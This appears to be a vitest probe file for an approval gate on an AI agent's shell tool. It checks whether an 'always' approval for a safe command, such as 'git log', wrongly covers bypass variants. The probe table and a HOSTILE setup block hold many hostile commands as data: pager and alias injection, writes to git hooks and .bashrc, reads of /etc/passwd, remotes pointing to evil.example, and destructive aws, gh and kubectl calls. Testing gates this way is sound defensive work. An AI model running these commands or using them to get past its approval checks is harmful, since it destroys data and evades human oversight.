import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, it } from 'vitest';
import { createShellFixture, type ShellFixture } from '../test/shell-fixture.ts';
import { openApprovalsFile, type ApprovalsFile } from './approvals/approvals-file.ts';
import { createGate } from './core/gate.ts';
import type { ApprovalDecision, ToolCall } from './core/types.ts';

let fixture: ShellFixture;
let approvals: ApprovalsFile;
beforeEach(() => {
  fixture = createShellFixture({ shell: { rules: [{ match: 'ls', decision: 'allow' }, { match: 'echo', decision: 'allow' }, { match: 'rm', decision: 'block' }, { match: 'git push', decision: 'ask' }] } });
  approvals = openApprovalsFile({ path: path.join(fixture.root, '.toolgate', 'approvals.json') });
  const ws = path.join(fixture.root, 'ws');
  execFileSync('git', ['init', '-q', ws]);
  execFileSync('git', ['-C', ws, '-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-q', '--allow-empty', '-m', 'x']);
});
afterEach(() => fixture.remove());
let n = 0;
const shell = (command: string, cwd?: string): ToolCall => ({ tool: 'shell', args: cwd === undefined ? { command } : { command, cwd }, callId: `c${++n}` });
const ctx = (s: string) => ({ sessionId: s, signal: new AbortController().signal });
function gateAnswering(decision: ApprovalDecision, shown: any[] = []) {
  return createGate({ policy: fixture.policy, tools: [fixture.tool], always: approvals, approver: { ask: async (r) => (shown.push(r), decision) } });
}
async function probe(seed: string, probes: string[], cwd?: string) {
  const shown: any[] = [];
  const r0 = await gateAnswering({ approved: true, scope: 'always', alwaysScope: 'command' }, shown).authorize(shell(seed, cwd), ctx('s1'));
  console.log(`SEED ${seed}: ${r0.decision} ${(r0 as any).reason}\n  offered: ${JSON.stringify(shown[0]?.alwaysScopes?.map((s: any) => s.rule))}`);
  const later = gateAnswering({ approved: false, scope: 'once', reason: 'asked' });
  for (const c of probes) {
    const r = await later.authorize(shell(c, cwd), ctx('s2'));
    console.log(`  ${r.decision}/${(r as any).source}  ${c}   ${r.decision === 'approved' ? '' : String((r as any).reason).slice(0, 140)}`);
  }
}
const P = process.env.PROBE ?? 'gitlog';
it('probe', async () => {
  const table: Record<string, [string, string[]]> = {
    gitlog: ['git log -n 3', [
      'git log --oneline', 'git -c core.pager=id log', 'git -c alias.log=!id log', 'git --exec-path=/tmp log', 'FOO=x git log', 'GIT_PAGER=id git log', 'PAGER=id git log',
      'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=id git log', 'command git log', 'git log --output=x.txt', 'git log --output=.git/hooks/pre-commit',
      'git log > .git/hooks/post-checkout', 'git log > x.txt', 'git log >> .bashrc', 'git log | sh', 'git log < /etc/passwd', 'git log <<< hi', 'git log <(id)', 'git log $(id)',
      'f() { id; }; f; git log', 'alias git=id; git log', 'git() { id; }; git log', 'cd ..; git log', 'cd ../outside && git log', 'git log && ls', 'git log; echo hi > x',
      'git log --ext-diff -p', 'git log --show-signature', 'git log -p --textconv', 'git log --exec=id', 'git log -- ../outside', 'git log ../outside/secret.txt', 'git log link-out/secret.txt',
      'git log --no-index', 'git -C ../outside log', 'git --git-dir=../outside log', 'git --work-tree=../outside log', 'git log --format=%x00', 'git log && git log', 'exec git log', 'time git log', 'nohup git log',
      'git log & id', 'git log ; git push', 'git log $HOME', 'git log ~', 'git log --output=/tmp/zzx', 'git log -o x', 'env git log', 'git log --config-env=core.pager=HOME',
    ]],
    gitlog2: ['git log -n 3', ['git log --out=x.txt', 'git log --outp=y.txt', 'git log --output y2.txt', 'git log --outpu=.git/hooks/pre-commit', 'git log --out=../outside/z.txt', 'git log --out=.toolgate/approvals.json', 'git log -p --ext-diff', 'git log --show-signature -1', 'git log -p --textconv -1', 'git log -1 --format=%H', 'git log --no-pager']],
    gitconfig: ['git config --get user.name', ['git config core.pager "touch /tmp/zz"', 'git config alias.lg "!touch /tmp/zz"', 'git config core.hooksPath hooks', 'git config --global user.name x', 'git config core.fsmonitor "touch /tmp/zz"', 'git config --unset user.name', 'git config -l']],
    gitstash: ['git stash list', ['git stash drop', 'git stash clear', 'git stash push', 'git stash pop']],
    gitbranch: ['git branch --list', ['git branch -D main', 'git branch -M x', 'git branch new']],
    gitremote: ['git remote -v', ['git remote add evil https://evil.example/x', 'git remote set-url origin https://evil.example', 'git remote remove origin', 'git remote update']],
    gitreflog: ['git reflog -n 3', ['git reflog expire --expire=now --all', 'git reflog delete HEAD@{0}']],
    gitworktree: ['git worktree list', ['git worktree add ../outside/wt', 'git worktree add wt2', 'git worktree remove wt2']],
    gitsub: ['git submodule status', ['git submodule update --init', 'git submodule foreach id', 'git submodule add https://evil.example/x sub']],
    gittag: ['git tag -l', ['git tag -d v1', 'git tag v2']],
    npmrun: ['npm run build', ['npm run anything', 'npm run-script x', 'npm test', 'npm exec id']],
    npmls: ['npm ls', ['npm ls --global', 'npm list']],
    make: ['make build', ['make clean', 'make -f /tmp/x', 'make -C ../outside', 'make --eval="x:;id" x']],
    docker: ['docker ps', ['docker run --rm alpine id', 'docker rm -f x']],
    kubectl: ['kubectl get pods', ['kubectl delete pods --all', 'kubectl exec x -- id']],
    gh: ['gh pr view 1', ['gh pr merge 1', 'gh pr close 1']],
    sed: ['sed -n 1p a.txt', ['sed -i s/a/b/ a.txt', 'sed -n 1w/tmp/x a.txt', 'sed e a.txt']],
    find: ['find . -name x', ['find . -delete', 'find . -exec id ;', 'find . -fprint x']],
    head: ['head -n 1 a.txt', ['head -n 1 notes.txt', 'head ../outside/secret.txt', 'head link-out/secret.txt', 'head .git/config']],
    cp: ['cp a.txt b.txt', ['cp a.txt .git/hooks/pre-commit', 'cp -r . ../outside/x', 'cp a.txt notes.txt', 'cp /etc/passwd c.txt']],
    tee: ['echo x | tee b.txt', ['echo y | tee .bashrc', 'echo y | tee .git/hooks/pre-commit']],
    ghrepo: ['gh repo view', ['gh repo delete victim/repo --yes', 'gh repo edit --visibility public', 'gh repo archive -y']],
    ghapi: ['gh api user', ['gh api -X DELETE repos/o/r', 'gh api graphql -f query=x']],
    aws: ['aws s3 ls', ['aws s3 rm --recursive s3://prod', 'aws s3 cp a.txt s3://x/']],
    dockerimg: ['docker image ls', ['docker image rm -f x', 'docker image prune -af']],
    kubeconf: ['kubectl config view', ['kubectl config set-context x --namespace=y', 'kubectl config use-context prod', 'kubectl config delete-context x']],
    gitstashshow: ['git stash show', ['git stash drop', 'git stash clear']],
  };
  if (process.env.HOSTILE) {
    const ws = path.join(fixture.root, 'ws');
    for (const [k, v] of [['diff.external', 'touch /tmp/zz-pwn-ext'], ['gpg.program', '/tmp/zz-evil'], ['core.pager', 'touch /tmp/zz-pwn-pager; cat'], ['log.showSignature', 'true']]) execFileSync('git', ['-C', ws, 'config', k!, v!]);
  }
  const [seed, probes] = table[P]!;
  await probe(seed, probes);
});
